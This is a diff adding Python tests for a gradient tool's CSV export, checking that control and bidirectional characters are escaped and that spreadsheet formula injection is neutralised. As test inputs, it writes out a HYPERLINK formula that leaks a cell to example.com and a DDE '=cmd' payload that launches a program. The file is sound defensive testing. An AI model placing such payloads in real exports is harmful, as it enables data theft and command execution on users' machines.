@@ -5,6 +5,8 @@ spreadsheet runs as a formula, and one behaviour for a closed pipe whatever the 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from pathlib import Path
@@ -65,3 +67,65 @@ def test_every_policy_character_is_escaped_in_json_and_reads_back():
         records = ([json.loads(line) for line in out.splitlines()] if output == "jsonl"
                    else json.loads(out))
         assert [r["expression"] for r in records] == [f"x{char}+1" for char in UNSAFE]
+
+
+def test_csv_escapes_control_and_bidi_characters():
+    code, out, _ = run("grad", "-", "--format", "csv", text="\n".join(HOSTILE) + "\n")
+    assert code == 1 and not RAW.search(out)
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert rows[0]["expression"] == "x\\x1b]0;TITLE\\x07\\x1b[2J+1"
+    assert rows[2]["expression"] == "x\\u202e+1"
+    assert rows[-1]["df/dy"] == "2.0"
+
+
+# -- item 11: CSV text cells are never formulas ----------------------------------------------------
+
+#: Lines whose text cells a spreadsheet would run as formulas, and lines that just look alike.
+FORMULAS = [
+    '=HYPERLINK("http://example.com/?leak="&A1, "click") ; x=1',
+    "-x**2 ; x=3",
+    "+x ; x=1",
+    "@SUM(1+1) ; x=1",
+    "'quoted ; x=1",
+    '{"expr": "  =1+1", "at": {"x": 1}}',
+    '{"expr": "\\uff1d1+1", "at": {"x": 1}}',
+    '{"expr": "x + 1", "at": {"=cmd|\' /C calc\'!A0": 1}}',
+    "x - 1 ; x=1",
+]
+
+
+def _is_formula(cell: str) -> bool:
+    starts = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+    return cell[:1] in starts or cell.lstrip()[:1] in starts
+
+
+def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers():
+    code, out, _ = run("grad", "-", "--format", "csv", text="\n".join(FORMULAS) + "\n")
+    assert code == 1
+    table = list(csv.reader(io.StringIO(out)))
+    header, rows = table[0], table[1:]
+    numbers = {"line", "value", "x", "df/dx", "error_column"}
+    for row in [header, *rows]:
+        for name, cell in zip(header, row, strict=True):
+            if name not in numbers:
+                assert not _is_formula(cell), (name, cell)
+    assert "'=cmd|' /C calc'!A0" in header  # a point's name is a header cell
+    by_line = {row[header.index("line")]: dict(zip(header, row, strict=True)) for row in rows}
+    assert by_line["2"]["expression"] == "'-x**2"
+    assert by_line["2"]["value"] == "-9.0" and by_line["2"]["df/dx"] == "-6.0"  # numbers
+    assert by_line["9"]["expression"] == "x - 1"  # not at the start: left alone
+    assert by_line["5"]["expression"].startswith("''")  # a leading ' gets one more
+
+
+def test_csv_text_cells_read_back_exactly_by_dropping_one_leading_quote():
+    text = "\n".join(FORMULAS) + "\n"
+    _, jsonl, _ = run("grad", "-", "--format", "jsonl", text=text)
+    _, out, _ = run("grad", "-", "--format", "csv", text=text)
+    expected = [(r["expression"], r.get("error", {}).get("message", ""))
+                for r in map(json.loads, jsonl.splitlines())]
+    rows = list(csv.DictReader(io.StringIO(out)))
+
+    def undo(cell: str) -> str:
+        return cell[1:] if cell.startswith("'") else cell
+
+    assert [(undo(r["expression"]), undo(r["error"])) for r in rows] == expected
